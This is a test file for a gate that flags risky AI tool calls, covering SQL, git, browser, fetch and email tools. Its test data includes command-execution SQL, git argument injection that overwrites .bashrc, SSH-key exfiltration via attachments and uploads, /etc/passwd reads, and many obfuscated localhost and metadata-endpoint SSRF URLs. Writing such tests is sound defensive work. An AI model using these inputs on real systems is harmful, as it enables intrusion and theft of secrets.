/** Calls by which a tool of a known server would run a program, write a file or reach somebody: no pack allows one unasked. */
import { describe, expect, it } from "vitest";
import { createGate } from "../../index.ts";
import { parseConfig } from "../../policy-file/index.ts";
import { toProposedDeclaration } from "../index.ts";
import { PACKS } from "./index.ts";

const labelsOf = (pack: string, tool: string) => {
  const found = PACKS.find(({ name }) => name === pack)?.tools.get(tool);
  if (found === undefined) throw new Error(`The pack ${pack} has no ${tool}.`);
  return found;
};

/** What a clean session gets for one call under the pack's own declarations. */
async function effectOf(pack: string, tool: string, args: Record<string, unknown>): Promise<string> {
  const declaration = toProposedDeclaration({
    ...labelsOf(pack, tool),
    tags: [],
    confidence: "known",
  });
  const { policy } = await parseConfig(JSON.stringify({ version: 1, tools: { [tool]: declaration } }), {
    file: "/p/sluicegate.yaml",
    environment: {},
  });
  const gate = createGate({ policy });
  const session = await gate.open();
  const { effect } = await session.preview({ tool, arguments: args });
  await gate.close();
  return effect;
}

const RUN = "runs a program";
const SAVE = "writes a file";
const REACH = "reaches outside";
const NEEDED: Readonly<Record<string, string>> = { [RUN]: "write", [SAVE]: "write", [REACH]: "connect" };

describe("a pack", () => {
  it.each<[string, string, string, Record<string, unknown>]>([
    [
      "puppeteer",
      "puppeteer_navigate",
      RUN,
      { url: "https://a.example", launchOptions: { executablePath: "/bin/sh" } },
    ],
    ["puppeteer", "puppeteer_navigate", REACH, { url: "https://a.example" }],
    ["puppeteer", "puppeteer_screenshot", RUN, { name: "x", launchOptions: { executablePath: "/bin/sh" } }],
    ["puppeteer", "puppeteer_screenshot", REACH, { name: "x" }],
    ["puppeteer", "puppeteer_hover", RUN, { selector: "a", launchOptions: {} }],
    ["postgres", "query", RUN, { sql: "COPY (SELECT 1) TO PROGRAM 'id'" }],
    ["postgres", "query", REACH, { sql: "COPY (SELECT 1) TO PROGRAM 'curl a.example'" }],
    ["postgres", "query", SAVE, { sql: "COPY (SELECT 1) TO '/tmp/f'" }],
    ["dbhub", "execute_sql", RUN, { sql: "EXEC xp_cmdshell 'id'" }],
    ["dbhub", "execute_sql", REACH, { sql: "SELECT * FROM dblink('host=a.example', 'SELECT 1')" }],
    ["sqlite", "write_query", SAVE, { query: "ATTACH DATABASE '/tmp/f' AS f" }],
    ["sqlite-records", "query", SAVE, { sql: "VACUUM INTO '/tmp/f'" }],
    ["git", "git_diff", SAVE, { repo_path: "/r", target: "--output=/home/a/.bashrc" }],
    ["git", "git_show", SAVE, { repo_path: "/r", revision: "--output=/home/a/.bashrc" }],
    ["git", "git_log", SAVE, { repo_path: "/r", start_timestamp: "--output=/home/a/.bashrc" }],
    ["git", "git_branch", SAVE, { repo_path: "/r", branch_type: "local", contains: "--edit-description" }],
    ["git", "git_commit", RUN, { repo_path: "/r", message: "x" }],
    ["git", "git_add", RUN, { repo_path: "/r", files: ["x"] }],
    ["git", "git_checkout", RUN, { repo_path: "/r", branch_name: "x" }],
    ["git", "git_init", RUN, { repo_path: "/elsewhere" }],
    ["playwright", "browser_take_screenshot", SAVE, { filename: "../../.bashrc" }],
    ["playwright", "browser_snapshot", SAVE, { filename: "/home/a/.bashrc" }],
    ["playwright", "browser_console_messages", SAVE, { filename: "x" }],
    ["playwright", "browser_network_requests", SAVE, { filename: "x" }],
    ["playwright", "browser_file_upload", REACH, { paths: ["/home/a/.ssh/id_rsa"] }],
    ["playwright", "browser_evaluate", REACH, { function: "() => fetch('https://a.example')" }],
    ["playwright", "browser_run_code", RUN, { code: "async (page) => {}" }],
    ["playwright", "browser_install", RUN, {}],
    ["playwright", "browser_navigate", REACH, { url: "file:///etc/passwd" }],
    ["playwright", "browser_navigate", REACH, { url: "http://127.0.0.1:8080/" }],
    ["playwright", "browser_navigate", REACH, { url: "javascript:fetch('//a.example')" }],
    ...[
      "https://localhost/",
      "https://LOCALHOST:8443/",
      "https://grafana.localhost",
      "https://127.0.0.1/",
      "https://127.1/",
      "https://2130706433/",
      "https://0x7f000001/",
      "https://0x7f.0.0.0x1/",
      "https://0177.0.0.1/",
      "https://10.1.2.3:443/x",
      "https://192.168.0.1/",
      "https://169.254.169.254/latest/meta-data",
      "https://[::1]/",
      "https://[::ffff:127.0.0.1]/",
      "https://[fd00::1]/",
      "https://printer.local/",
      "https://metadata.google.internal/",
      "https://router/",
      "https://l%6fcalhost/",
      "https://\uff4cocalhost/",
      "https://127\u30020\u30020\u30021/",
      "https://a.example@127.0.0.1/",
      "https://a.example\\@127.0.0.1/",
      "https:///127.0.0.1/",
      "https:\\\\127.0.0.1/",
      "https:127.0.0.1",
      "https://127.0.0\t.1/",
      " https://127.0.0.1/",
    ].flatMap((url): [string, string, string, Record<string, unknown>][] => [
      ["fetch", "fetch", REACH, { url }],
      ["playwright", "browser_navigate", REACH, { url }],
    ]),
    ["fetch", "fetch", REACH, { url: "http://169.254.169.254/latest/meta-data" }],
    ["fetch-server", "fetch_html", REACH, { url: "file:///etc/passwd" }],
    ["fetch-server", "fetch_json", REACH, { url: "https://a.example", proxy: "http://127.0.0.1:9000" }],
    ["everything", "gzip-file-as-resource", REACH, { data: "http://127.0.0.1/" }],
    ["gmail", "draft_email", REACH, { to: ["a@a.example"], attachments: ["/home/a/.ssh/id_rsa"] }],
    ["gmail", "download_attachment", SAVE, { savePath: "/home/a" }],
    ["gitlab-mcp", "upload_markdown", REACH, { file_path: "/home/a/.ssh/id_rsa" }],
    ["gitlab-mcp", "download_attachment", SAVE, { local_path: "/home/a" }],
    ["filesystem", "write_file", SAVE, { path: "/home/a/.bashrc", content: "x" }],
  ])("asks where %s's %s %s, and says so in its permissions (X13)", async (pack, tool, deed, args) => {
    const { permissions, approval } = labelsOf(pack, tool);
    // A read that writes a file by some arguments alone is a read, and those calls ask.
    if (approval === "always" || deed !== SAVE) expect(permissions).toContain(NEEDED[deed]);
    expect(await effectOf(pack, tool, args)).toBe("ask");
  });

  it.each<[string, string, Record<string, unknown>]>([
    ["git", "git_status", { repo_path: "/r" }],
    ["git", "git_diff", { repo_path: "/r", target: "main", context_lines: 3 }],
    ["git", "git_log", { repo_path: "/r", max_count: 10, start_timestamp: null }],
    ["git", "git_show", { repo_path: "/r", revision: "HEAD~1" }],
    ["playwright", "browser_navigate", { url: "https://a.example/-x" }],
    ["playwright", "browser_snapshot", {}],
    ["playwright", "browser_take_screenshot", { type: "png" }],
    ["fetch", "fetch", { url: "https://a.example" }],
    ["fetch", "fetch", { url: "HTTPS://Docs.A.Example:8443/@scope/x@1.2.3?u=http://127.0.0.1#[::1]" }],
    ["fetch", "fetch", { url: "https://9gag.xn--p1ai/localhost" }],
    ["fetch-server", "fetch_json", { url: "https://local.1password.com?a.local/" }],
    ["fetch-server", "fetch_markdown", { url: "https://a.example", max_length: 100 }],
    ["sqlite", "read_query", { query: "SELECT 1" }],
    ["filesystem", "read_file", { path: "/r/a" }],
    ["gmail", "draft_email", { to: ["a@a.example"], subject: "x", body: "x" }],
  ])("leaves %s's ordinary %s unasked (X13)", async (pack, tool, args) => {
    expect(await effectOf(pack, tool, args)).toBe("allow");
  });

  it("asks each time, or needs the right to write and to connect, for every tool that takes a program", () => {
    const program = /sql$|evaluate|run_code|execute|puppeteer/;
    const lax = PACKS.flatMap(({ name, tools }) =>
      [...tools]
        .filter(([tool, { approval }]) => program.test(tool) && approval !== "always")
        .map(([tool]) => `${name}.${tool}`),
    );
    expect(lax).toEqual([]);
  });
});
